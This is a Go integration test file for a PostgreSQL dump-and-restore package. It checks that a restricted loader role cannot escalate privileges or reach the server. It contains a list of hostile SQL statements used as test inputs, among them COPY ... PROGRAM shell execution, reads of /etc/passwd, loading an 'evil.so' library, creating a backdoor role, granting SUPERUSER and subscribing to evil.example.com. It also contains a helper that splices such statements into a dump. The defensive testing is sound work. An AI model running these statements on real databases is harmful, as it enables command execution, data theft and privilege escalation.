//go:build integration

package database

import (
	"bytes"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/banhbaoring/banhbaoring/jobs"
	"github.com/banhbaoring/banhbaoring/jobs/internal/realtest"
)

// openStack serves a real server that has the roles which the stack's own PostgreSQL
// makes, by its own script.
func openStack(t *testing.T) (*Client, func(string) string) {
	t.Helper()
	url, sql := realtest.NewPostgres(t)
	dir := t.TempDir()
	if err := os.Chmod(filepath.Dir(dir), 0o755); err != nil { // the server's user reads it
		t.Fatal(err)
	}
	at := func(user string) string {
		return strings.Replace(strings.Replace(url, "tester:any@", user+":any@", 1), "/postgres?", "/keys?", 1)
	}
	for name, text := range map[string]string{
		"url": at("keys"), jobs.LoaderURLFile: at(jobs.PostgresLoader),
		"username": "keys", "password": "p", "database": "keys", "replication-password": "r", "restore-password": "l",
	} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	roles, err := os.ReadFile("../../components/database/base/files/roles.sql")
	if err != nil {
		t.Fatal(err)
	}
	for range 2 { // it runs whenever the Secret changes
		sql(strings.ReplaceAll(string(roles), "/etc/banhbaoring-postgres-credentials", dir))
	}
	c := Open(realtest.Socket(t, dir, Serve))
	return c, func(script string) string { return strings.TrimSpace(sql("\\connect keys\n" + script)) }
}

// view is what a dump holds whose text another takes the place of.
const view = "CREATE VIEW public.harmless AS\n SELECT '"

// attack is a dump in pg_dump's own format that holds a statement.
func attack(t *testing.T, c *Client, sql func(string) string, statement string) []byte {
	t.Helper()
	var dump bytes.Buffer
	if _, err := c.Dump(t.Context(), &dump); err != nil {
		t.Fatal(err)
	}
	text := dump.Bytes()
	at := bytes.Index(text, []byte(view))
	end := bytes.Index(text[max(at, 0):], []byte(";\n"))
	if at < 0 || end < len(statement) {
		t.Fatalf("the dump has no room for %d bytes", len(statement))
	}
	copy(text[at:at+end], statement+strings.Repeat(" ", end-len(statement)))
	return text
}

// A dump is loaded by a role that owns the new database and nothing else: what it
// holds beside reaches neither the server, nor the database in use, nor its owner.
func TestADumpCreatesWhatItHoldsAndNothingOfTheServer(t *testing.T) {
	c, sql := openStack(t)
	sql("SET ROLE keys; CREATE TABLE public.users (id bigint); INSERT INTO users SELECT generate_series(1, 10); CREATE VIEW harmless AS SELECT '" + strings.Repeat("x", 400) + "'::text AS t")
	ran := filepath.Join(t.TempDir(), "ran")
	library := filepath.Join(t.TempDir(), "evil.so")
	for _, statement := range []string{
		"COPY (SELECT 1) TO PROGRAM 'touch " + ran + "'",
		"CREATE TABLE public.p (l text); COPY public.p FROM PROGRAM 'touch " + ran + "'",
		"COPY (SELECT 1) TO '" + ran + "'",
		"CREATE TABLE public.p (l text); COPY public.p FROM '/etc/passwd'",
		"SELECT pg_catalog.pg_read_file('/etc/passwd')",
		"SELECT pg_catalog.lo_import('/etc/passwd')",
		"SELECT pg_catalog.lo_export(pg_catalog.lo_create(0), '" + ran + "')",
		"LOAD '" + library + "'",
		"CREATE FUNCTION public.f() RETURNS int LANGUAGE c AS '" + library + "', 'f'",
		"CREATE FUNCTION public.f() RETURNS int LANGUAGE internal AS 'pg_ls_dir'",
		"CREATE EXTENSION file_fdw",
		"CREATE EXTENSION dblink",
		"CREATE EXTENSION adminpack",
		"CREATE TRUSTED LANGUAGE evil HANDLER plpgsql_call_handler",
		"CREATE FUNCTION public.f() RETURNS event_trigger LANGUAGE plpgsql AS 'BEGIN END'; CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION public.f()",
		"ALTER SYSTEM SET log_statement = 'all'",
		"SELECT pg_catalog.pg_reload_conf()",
		"CREATE ROLE backdoor LOGIN",
		"ALTER ROLE keys PASSWORD 'known'",
		"ALTER ROLE CURRENT_USER SUPERUSER",
		"ALTER ROLE CURRENT_USER CREATEDB",
		"GRANT keys TO CURRENT_USER",
		"GRANT pg_execute_server_program TO CURRENT_USER",
		"SET ROLE keys",
		"SET SESSION AUTHORIZATION keys",
		"SET SESSION AUTHORIZATION tester",
		"CREATE DATABASE another",
		"ALTER DATABASE keys RENAME TO gone",
		"ALTER DATABASE keys SET default_transaction_read_only = on",
		"ALTER DATABASE keys CONNECTION LIMIT 0",
		"DROP DATABASE keys WITH (FORCE)",
		"CREATE TABLESPACE t LOCATION '/tmp'",
		"CREATE PUBLICATION p FOR ALL TABLES",
		"CREATE SUBSCRIPTION s CONNECTION 'host=evil.example.com' PUBLICATION p",
		"SELECT pg_catalog.pg_create_physical_replication_slot('full')",
	} {
		before := sql(state)
		for form, load := range map[string]func() error{
			"a dump": func() error {
				return c.Fill(t.Context(), "postgres", "fresh", false, bytes.NewReader(attack(t, c, sql, statement)))
			},
			"a script": func() error {
				return c.Fill(t.Context(), "postgres", "fresh", true, strings.NewReader(statement+";\n"))
			},
		} {
			err := load()
			if err == nil || !strings.Contains(err.Error(), "ERROR:") {
				t.Errorf("%s with %s: %v", form, statement, err)
			}
		}
		if after := sql(state); after != before {
			t.Errorf("%s changed the server:\n%s\n%s", statement, before, after)
		}
		if _, err := os.Stat(ran); err == nil {
			t.Fatalf("%s was run", statement)
		}
	}
	if got := sql("SELECT count(*) FROM public.users"); got != "10" {
		t.Errorf("the database in use has %s rows", got)
	}
}

// state is what no dump may change: roles, memberships, settings and the databases.
const state = `SELECT concat_ws(';', (SELECT string_agg(concat_ws(',', rolname, rolsuper, rolcreatedb, rolcreaterole, rolreplication, rolpassword), '|' ORDER BY rolname) FROM pg_authid),
	(SELECT string_agg(concat_ws(',', roleid, member), '|' ORDER BY roleid, member) FROM pg_auth_members),
	(SELECT string_agg(concat_ws(',', setdatabase, setrole, setconfig), '|' ORDER BY setdatabase, setrole) FROM pg_db_role_setting),
	(SELECT string_agg(concat_ws(',', datname, datconnlimit, datdba), '|' ORDER BY datname) FROM pg_database WHERE datname <> 'fresh'),
	(SELECT count(*) FROM pg_file_settings), (SELECT count(*) FROM pg_replication_slots), (SELECT count(*) FROM pg_subscription))`

// What a dump may hold is made, and goes to the owner of the database in use.
func TestWhatADumpMakesGoesToTheOwner(t *testing.T) {
	c, sql := openStack(t)
	sql(`SET ROLE keys; CREATE EXTENSION pgcrypto; CREATE SCHEMA more; CREATE TYPE more.kind AS ENUM ('a'); CREATE TABLE more.users (id serial PRIMARY KEY, k more.kind);
		CREATE FUNCTION more.f() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN RETURN NEW; END'; CREATE TRIGGER t BEFORE INSERT ON more.users FOR EACH ROW EXECUTE FUNCTION more.f();
		INSERT INTO more.users (k) SELECT 'a' FROM generate_series(1, 100)`)
	if name, err := c.Loader(t.Context()); err != nil || name != jobs.PostgresLoader {
		t.Fatalf("%q, %v", name, err)
	}
	var dump bytes.Buffer
	if _, err := c.Dump(t.Context(), &dump); err != nil {
		t.Fatal(err)
	}
	for range 2 { // the second takes the place of the first
		if err := c.Fill(t.Context(), "postgres", "fresh", false, bytes.NewReader(dump.Bytes())); err != nil {
			t.Fatal(err)
		}
	}
	lines, err := c.Ask(t.Context(), "fresh",
		"SELECT pg_get_userbyid(datdba) FROM pg_database WHERE datname = 'fresh'",
		"SELECT DISTINCT pg_get_userbyid(relowner) FROM pg_class c JOIN pg_namespace n ON n.oid = relnamespace WHERE nspname = 'more'",
		"SELECT pg_get_userbyid(proowner) FROM pg_proc WHERE proname = 'f'",
		"SELECT pg_get_userbyid(extowner) FROM pg_extension WHERE extname = 'pgcrypto'",
		"SELECT count(*) FROM pg_shdepend WHERE refobjid = '"+jobs.PostgresLoader+"'::regrole AND deptype = 'o'",
		"INSERT INTO more.users (k) VALUES ('a')", "SELECT count(*) FROM more.users")
	if got := strings.Join(lines, " "); err != nil || got != "keys keys keys keys 0 101" {
		t.Errorf("%s, %v", got, err)
	}
}

// A database that exists has no such role: its own user loads, as the docs say.
func TestWithoutALoaderTheUserLoads(t *testing.T) {
	c, sql := open(t)
	if name, err := c.Loader(t.Context()); err != nil || name != "" {
		t.Fatalf("%q, %v", name, err)
	}
	if err := c.Fill(t.Context(), "postgres", "fresh", true, io.MultiReader(strings.NewReader("CREATE TABLE t (id int);\n"))); err != nil {
		t.Fatal(err)
	}
	if got := sql("SELECT pg_get_userbyid(datdba) FROM pg_database WHERE datname = 'fresh'"); got != "keys" {
		t.Errorf("it belongs to %s", got)
	}
}
